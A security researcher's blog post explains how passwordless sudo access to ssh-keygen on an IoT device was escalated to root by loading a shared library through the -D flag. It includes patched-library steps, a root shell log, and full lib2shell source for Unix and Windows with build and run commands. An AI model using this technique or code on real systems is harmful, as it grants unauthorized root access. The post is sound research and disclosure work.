Thursday, March 9, 2023

Leveraging ssh-keygen for Arbitrary Execution (and Privilege Escalation)


The ssh-keygen command can be used to load a shared library with the -D flag. This can be useful for privilege escalation (described below), or to translate to arbitrary code execution from argument injection, file overwrites, etc. Proof of concept code can be found on my GitHub (and here is a list of other tools that can be leveraged in the same way).During a recent security assessment of a Linux-based IoT device,I had acquired low-privilege SSH access. To avoid disclosing unnecessary information about the target implementation, I'll be referring to this user as lowprivuser.


After some basic system enumeration, I started looking for privilege escalation vectors. Obviously, one of the first things I did was check for sudo capabilities (outputtruncated with "[...]"):

$ sudo -l
User lowprivuser may run the following commands on host:
    (ALL) NOPASSWD: [...] /usr/bin/ssh-keygen [...]

I figured I might be able to perform some kind of file corruption/overwrite with ssh-keygen, so I looked it up on GTFOBins. Surprisingly, I found something better than a file-write:

Apparently, ssh-keygen allows loading a shared library with the -D flag. To get a better understanding of this feature, I checked out the man page:

$ man ssh-keygen
SSH-KEYGEN(1)             BSD General Commands Manual               SSH-KEYGEN(1)

     ssh-keygen — OpenSSH authentication key utility

     ssh-keygen -D pkcs11
     -D pkcs11
             Download the public keys provided by the PKCS#11 shared library pkcs11.
             When used in combination with -s, this option indicates that a CA keyresides in a PKCS#11 token (see the CERTIFICATES section for details).

This was a big find - if you can load a library, you can run arbitrary code. Clearly, this was a viable privilege escalation vector.

After a bit of Googling, I was unable to find an example of someone using this feature for offensive security purposes, so I decided to figure it out for myself.First, I needed to understand the structure of the payload. The mechanism loads a shared library (*.so on Unix, *.dll on Windows), so I probably needed to export some predefined symbol that ssh-keygen was expecting. Developer documentation probably exists for this feature, but I often find it easier to go directly to the source code.

A standard way to load a shared library in C is to use the dlopen function. I searched the OpenSSH source code for this function, and found what I was looking for in ssh-pkcs11.c:

    // [...]
    /* open shared pkcs11-libarary */
    if ((handle = dlopen(provider_id, RTLD_NOW)) == NULL) {
        error("dlopen %s failed: %s", provider_id, dlerror());
        goto fail;
    if ((getfunctionlist = dlsym(handle, "C_GetFunctionList")) == NULL) {
        error("dlsym(C_GetFunctionList) failed: %s", dlerror());
        goto fail;
    p = xcalloc(1, sizeof(*p));
    p->name = xstrdup(provider_id);
    p->handle = handle;
    /* setup the pkcs11 callbacks */
    if ((rv = (*getfunctionlist)(&f)) != CKR_OK) {
        error("C_GetFunctionList failed: %lu", rv);
        goto fail;
    // [...]

Let's break this down to understand what's happening. The statement on line 486 attempts to load the shared library into process memory:

handle = dlopen(provider_id, RTLD_NOW)

The variable provider_id contains the library file path, and the function returns a handle that can be used to interact with the library in memory.

Next, it searches the newly-loaded library for an exported function called C_GetFunctionList and stores the function pointer in the variable getfunctionlist (line 490):

getfunctionlist = dlsym(handle, "C_GetFunctionList")

If C_GetFunctionList is found, the function is called (line 498):

rv = (*getfunctionlist)(&f)

After that, it doesn't really matter what happens. We control the code inside C_GetFunctionList, so we can do whatever we want. For my scenario,I wanted to get an elevated shell, so the easiest thing to do would be to call one of the functions in the exec family to transform the ssh-keygen process into a new shell instance.

To summarize, I needed to create a shared library (*.so) that exports a function called C_GetFunctionList, and that function would call something like the following:

execl("/bin/sh", "/bin/sh", NULL);

There was one additional factor: my target device was running on a 32-bit ARM architecture, so I'd either need to cross-compile from my x86_64 system or copy and patch an existing library from the target.

Finding a Patch TargetMost of my cross-compilation experience is from creating standard tools with Buildroot, but in this case I needed to cross-compile custom code from scratch. Alternatively, I could patch an existing shared library from the target system. Binary patching is an area I have a lot of experience with, so I decided to go in that direction.

To make the patching process as simple as possible, I wanted the original library to have two properties:

  • Imports one of the functions from the exec family
  • Calls the exec function directly from an exported function
First, I scanned the device filesystem for ELF binaries that contained at least one symbol starting with "exec". Symbol-scanning is something I do on a semi-regular basis, so I actually have a GitHub Gist with a handy command to do this.
$ SYMBOL_NAME="exec" ; \
 find / -type f -exec printf "{}:   " \; -exec sh -c "objdump -T \"{}\" 2>&1 \
   | grep -e \" $SYMBOL_NAME\" ; \ echo \"\"" \; | grep -e " $SYMBOL_NAME" | grep '.so'
/lib/pppd/2.4.9/   00000000      DF *UND*   00000000  GLIBC_<VER>   execl
I went through several candidates before finding a good one, but eventually I found what I needed in, which is part of Paul's PPP Package. pppd (and the associated libraries) is a common tool found on Unix systems for handling Point-to-Point Protocol (PPP).

Patching the Target

The library exports a function, run_ntlm_auth (line 237), that directly calls execl (line 310):
unsigned int run_ntlm_auth(const char *username,
               const char *domain,
               const char*full_username,
               const char *plaintext_password,
               const u_char *challenge,
               size_t challenge_length,
               const u_char *lm_response,
               size_t lm_response_length,
               const u_char *nt_response,
               size_t nt_response_length,
               u_char nt_key[16],
               char **error_string)
    // [...]
    execl("/bin/sh", "sh", "-c", ntlm_auth, NULL);// [...]
The exact behavior of this function isn't super important; I simply needed to patch it to do what I wanted:
  • Jump directly to the setup for the execl call
  • Patch the third execl argument to be a null pointer (i.e., zero) instead of "-c"
I'm not going to get into the nitty gritty details of the patching, but it basically involved using the Ghidra (dis)assembler and a hex editor to patch in some unconditional branching instructions (b). After patching the function, the raw Ghidra decompiler output showed the following:
byte* run_ntlm_auth(void)
    FILE *pFVar1;
    byte *pbVar2;
    size_t sVar3;
    char *pcVar4;
    int iVar5;
    __pid_t _Var6;
    int *piVar7;
    int unaff_r4;
    byte **unaff_r7;execl("/bin/sh", "sh", 0, 0, 0);
    // [...]
Any code after the execl call is irrelevant, because the process would be transformed into an instance of /bin/sh.

The last thing I needed to do was patch the symbols in the library:
  • Rename run_ntlm_auth to C_GetFunctionList
  • Remove any DT_NEEDED symbols that weren't available in the ssh-keygen process
A brand-new feature ofpatchelf (symbol renaming) allowed me to do both of these at the same time. The feature is so new that it wasn't available in the package repository of my Linux distribution, so I had to compile it myself (simple enough). The "help" output explains how to use this feature:
$ ./src/patchelf --help
syntax: ./src/patchelf
  [--rename-dynamic-symbols NAME_MAP_FILE]      Renames dynamic symbols. The map file should contain two symbols (old_name new_name) per line
To create the "name map" file, I dumped the symbols from with objdump -T and did some basic RegEx processing on the output. I then renamed run_ntlm_auth to C_GetFunctionList and renamed all the PPP-specific DT_NEEDED symbols to free (a symbol that's available in every process).
$ ./patchelf/src/patchelf --output --rename-dynamic-symbols symbol_map.txt

Privilege Escalation

Finally, I could test my payload:
$ scp lowprivuser@target_device:/tmp/
lowprivuser@target_device's password:                          100%   14KB   2.3MB/s   00:00

$ ssh lowprivuser@target_devicelowprivuser@target_device's password:

sh-5.1$ id
uid=1012(lowprivuser) gid=1013(lowprivuser) groups=1013(lowprivuser)

sh-5.1$ sudo ssh-keygen -D /tmp/

sh-5.1# id
uid=0(root) gid=0(root) groups=0(root)
Boom, full root access.


After this experience, I decided to make a quick generic implementation of a shared library that transforms the containing process into a shell. To make it generic, theimplementation uses an ELF constructor rather than an exported function with a specific name. The entirety of the code for Unix is as follows:

// lib2shell.c
#include <stdio.h>
#include <unistd.h>

#define SHELL_COMMAND "/bin/sh"
void __attribute__((constructor)) constructor()
    puts("[lib2shell by SeanP]");
    printf("Starting %s\n",SHELL_COMMAND);
    long long err = execl(SHELL_COMMAND, "/bin/sh", "-c", SHELL_COMMAND, NULL);
    printf("Result: %lld\n", err);

To compile it, simply run the following two shell commands:

gcc -c -o lib2shell.o lib2shell.c -Wall -Werror -fpic -I.
gcc -shared -o lib2shell.o

Then, like I did on my target, run the following command to get your shell:

$ sudo ssh-keygen -D ./
[lib2shell by SeanP]
Starting /bin/sh
# id
uid=0(root) gid=0(root) groups=0(root)I also wrote an implementation for Windows (note that it might not work correctly if called from PowerShell):

#define WIN32_LEAN_AND_MEAN    // Exclude rarely-used stuff from Windows headers

#include <windows.h>
#include <stdio.h>
#include <process.h>

#define SHELL_COMMAND "C:\\Windows\\System32\\cmd.exe"

BOOL APIENTRY DllMain(HMODULE h_module, DWORDul_reason_for_call, LPVOID lp_reserved)
    long long err = -2;
    switch (ul_reason_for_call)
        puts("[lib2shell by SeanP]");
        printf("Starting %s\n", SHELL_COMMAND);
        err = _execl(SHELL_COMMAND, "C:\\Windows\\System32\\cmd.exe","/c", SHELL_COMMAND, NULL);
        printf("Result: %lld\n", err);
    return TRUE;Both implementations are also available on my GitHub, along with a build script (Unix) and Visual Studio project files (Windows).


1 comment:

  1. Thank you, Sean!I found it to be an excellent read. The shared library is fantastic!